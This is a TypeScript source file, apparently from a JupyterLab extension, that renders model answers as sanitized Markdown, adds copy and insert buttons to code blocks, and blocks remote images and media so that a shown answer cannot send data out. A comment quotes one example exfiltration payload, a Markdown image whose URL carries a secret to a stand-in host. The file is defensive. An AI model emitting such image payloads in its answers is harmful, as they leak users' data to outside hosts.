/**
 * An answer's Markdown, rendered by JupyterLab's own markdown renderer (the notebook's
 * parser and code highlighting; untrusted, so the HTML is sanitized), with a small toolbar
 * on each code block: copy, insert into the active cell, new cell below.
 *
 * Answers load nothing from the network: the sanitizer is wrapped so that, before the HTML
 * reaches the page, every image (Markdown `![](url)` or an `<img>` tag) becomes a link the
 * user may open, and media `src`/`srcset`/`poster` attributes and CSS `url(...)` are dropped.
 * An answer like `![](https://host/?d=secret)` thus cannot send data out by being shown.
 */
import { MimeModel } from '@jupyterlab/rendermime';
import type { IRenderMime, IRenderMimeRegistry } from '@jupyterlab/rendermime';

/** What a code block's buttons do; the plugin supplies them. */
export interface CodeActions {
  copy(code: string): void;
  /** Inserts at the cursor of the active cell or editor; false when there is none. */
  insert(code: string): boolean;
  /** Adds a code cell below the active one; false when no notebook is open. */
  newCell(code: string): boolean;
}

const MIME = 'text/markdown';

const ATTRIBUTE = /([^\s=/>]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+)))?/g;
const MEDIA_TAG = /<(img|source|video|audio|track|input|picture|iframe|embed|object|image)\b([^>]*)>/gi;
const URL_ATTRIBUTES = new Set(['src', 'srcset', 'poster', 'data', 'background', 'href', 'xlink:href']);
const STYLE_WITH_URL = /\sstyle\s*=\s*("[^"]*url\([^"]*"|'[^']*url\([^']*')/gi;
/** Inline images are kept: they come from the answer itself and load nothing. */
const INLINE_IMAGE = /^\s*data:image\/(png|gif|jpeg|webp);/i;

function attributes(text: string): Map<string, string> {
  const found = new Map<string, string>();
  for (const m of text.matchAll(ATTRIBUTE)) {
    found.set(m[1].toLowerCase(), m[2] ?? m[3] ?? m[4] ?? '');
  }
  return found;
}

function escapeAttribute(value: string): string {
  return value.replace(/&(?!(?:[a-z]+|#\d+|#x[0-9a-f]+);)/gi, '&amp;').replace(/"/g, '&quot;')
    .replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

/**
 * `html` (a sanitizer's output) with nothing that loads from the network: an image becomes a
 * link to it (`[image: alt]`), other media lose their URL attributes, CSS `url(...)` goes.
 */
export function blockRemoteMedia(html: string): string {
  return html
    .replace(MEDIA_TAG, (tag: string, name: string, rest: string) => {
      const attrs = attributes(rest);
      if (name.toLowerCase() === 'img') {
        const src = attrs.get('src') ?? '';
        if (INLINE_IMAGE.test(src) && !attrs.has('srcset')) {
          return tag;
        }
        const alt = attrs.get('alt') || 'image';
        return (
          `<a class="llamalab-remote-image" href="${escapeAttribute(src)}" target="_blank" ` +
          `rel="noopener noreferrer" title="Open the image (not loaded automatically)">[image: ${escapeAttribute(alt)}]</a>`
        );
      }
      const kept = [...attrs].filter(([key]) => !URL_ATTRIBUTES.has(key) && !key.startsWith('on'));
      return `<${name}${kept.map(([k, v]) => ` ${k}="${escapeAttribute(v)}"`).join('')}>`;
    })
    .replace(STYLE_WITH_URL, '');
}

/** A sanitizer that sanitizes as `inner` does, then blocks remote media (`blockRemoteMedia`). */
export class NoRemoteMediaSanitizer implements IRenderMime.ISanitizer {
  constructor(private readonly _inner: IRenderMime.ISanitizer) {}

  get allowNamedProperties(): boolean | undefined {
    return this._inner.allowNamedProperties;
  }

  get allowCommandLinker(): boolean | undefined {
    return this._inner.allowCommandLinker;
  }

  getAutolink(): boolean {
    return this._inner.getAutolink?.() ?? true;
  }

  sanitize(dirty: string, options?: IRenderMime.ISanitizerOptions): string {
    return blockRemoteMedia(this._inner.sanitize(dirty, options));
  }
}

const safeRegistries = new WeakMap<IRenderMimeRegistry, IRenderMimeRegistry>();

/** `rendermime` with the answer-safe sanitizer, one clone per registry. */
function answerRegistry(rendermime: IRenderMimeRegistry): IRenderMimeRegistry {
  let safe = safeRegistries.get(rendermime);
  if (!safe) {
    safe = rendermime.clone({ sanitizer: new NoRemoteMediaSanitizer(rendermime.sanitizer) });
    safeRegistries.set(rendermime, safe);
  }
  return safe;
}
/** Streaming answers re-render at most this often. */
const STREAM_INTERVAL_MS = 80;

/** The code of a rendered `<pre>` block (what the model wrote, without highlighting). */
export function codeOf(pre: HTMLElement): string {
  const code = pre.querySelector('code') ?? pre;
  return (code.textContent ?? '').replace(/\n$/, '');
}

function button(testid: string, label: string, text: string, onClick: (b: HTMLButtonElement) => void): HTMLButtonElement {
  const b = document.createElement('button');
  b.type = 'button';
  b.className = 'llamalab-code-button';
  b.dataset.testid = testid;
  b.title = label;
  b.setAttribute('aria-label', label);
  b.textContent = text;
  b.addEventListener('click', event => {
    event.preventDefault();
    onClick(b);
  });
  return b;
}

function flash(b: HTMLButtonElement, text: string): void {
  const original = b.dataset.label ?? b.textContent ?? '';
  b.dataset.label = original;
  b.textContent = text;
  window.setTimeout(() => {
    b.textContent = original;
  }, 1200);
}

/** Wraps each code block in a frame with its toolbar above it. */
export function decorateCodeBlocks(host: HTMLElement, actions: CodeActions): void {
  host.querySelectorAll('pre').forEach(pre => {
    if (pre.parentElement?.classList.contains('llamalab-code')) {
      return;
    }
    const frame = document.createElement('div');
    frame.className = 'llamalab-code';
    const bar = document.createElement('div');
    bar.className = 'llamalab-code-toolbar';
    bar.setAttribute('role', 'toolbar');
    const lang = /language-([\w+#.-]+)/.exec(pre.querySelector('code')?.className ?? '')?.[1] ?? '';
    bar.setAttribute('aria-label', lang ? `${lang} code block` : 'code block');
    const name = document.createElement('span');
    name.className = 'llamalab-code-lang';
    name.textContent = lang;
    bar.append(
      name,
      button('llamalab-code-copy', 'Copy the code', 'Copy', b => {
        actions.copy(codeOf(pre));
        flash(b, 'Copied');
      }),
      button('llamalab-code-insert', 'Insert the code at the cursor of the active cell', 'Insert', b => {
        flash(b, actions.insert(codeOf(pre)) ? 'Inserted' : 'No active cell');
      }),
      button('llamalab-code-new-cell', 'Add the code as a new cell below the active cell', 'New cell', b => {
        flash(b, actions.newCell(codeOf(pre)) ? 'Added' : 'No notebook');
      })
    );
    pre.replaceWith(frame);
    frame.append(bar, pre);
  });
}

/**
 * Renders one message's Markdown into `host`, coalescing updates: while a render runs, only
 * the newest text waits; streaming text re-renders at most every STREAM_INTERVAL_MS. Text
 * that is no longer streaming (a finished answer) renders at once, throttle or not, and
 * `update` resolves when the text it was given (or newer) is on screen, so a finished answer
 * can be marked finished only once its whole text shows.
 */
export class MarkdownView {
  private _renderer: IRenderMime.IRenderer;
  private _text: string | null = null;
  private _shown: string | null = null;
  private _busy = false;
  private _urgent = false;
  private _timer = 0;
  private _disposed = false;
  private _waiting: (() => void)[] = [];

  constructor(
    rendermime: IRenderMimeRegistry,
    host: HTMLElement,
    private readonly _actions: CodeActions
  ) {
    this._renderer = answerRegistry(rendermime).createRenderer(MIME);
    this._renderer.addClass('llamalab-markdown');
    host.appendChild(this._renderer.node);
  }

  /**
   * Shows `text`; `streaming` rate-limits the renders, a final (not streaming) text flushes
   * at once. Resolves once `text` or a newer text is rendered (or the view is disposed).
   */
  update(text: string, streaming: boolean): Promise<void> {
    this._text = text;
    if (!streaming) {
      this._urgent = true;
    }
    const shown = new Promise<void>(resolve => this._waiting.push(resolve));
    this._schedule();
    return shown;
  }

  dispose(): void {
    this._disposed = true;
    window.clearTimeout(this._timer);
    this._timer = 0;
    this._renderer.node.remove();
    this._renderer.dispose();
    this._settle();
  }

  private _schedule(): void {
    if (this._disposed || this._busy) {
      return; // the running render schedules the next one when it ends
    }
    if (this._timer && this._urgent) {
      window.clearTimeout(this._timer);
      this._timer = 0;
    }
    if (this._timer) {
      return;
    }
    if (!this._urgent && this._shown !== null) {
      this._timer = window.setTimeout(() => {
        this._timer = 0;
        void this._render();
      }, STREAM_INTERVAL_MS);
    } else {
      void this._render();
    }
  }

  private async _render(): Promise<void> {
    const text = this._text;
    if (this._disposed) {
      return;
    }
    if (text === null || text === this._shown) {
      this._urgent = false;
      this._settle();
      return;
    }
    this._busy = true;
    this._urgent = false; // an update during the render sets it again
    try {
      await this._renderer.renderModel(new MimeModel({ data: { [MIME]: text }, trusted: false }));
      this._shown = text;
      if (!this._disposed) {
        decorateCodeBlocks(this._renderer.node, this._actions);
      }
    } catch (err) {
      this._renderer.node.textContent = text;
      this._shown = text;
      console.warn('llamalab: could not render the answer as Markdown', err);
    } finally {
      this._busy = false;
    }
    if (this._disposed || this._text === this._shown) {
      this._settle();
    } else {
      this._schedule();
    }
  }

  /** Resolves every `update` waiting: the newest text is on screen (or never will be). */
  private _settle(): void {
    const waiting = this._waiting;
    this._waiting = [];
    waiting.forEach(resolve => resolve());
  }
}
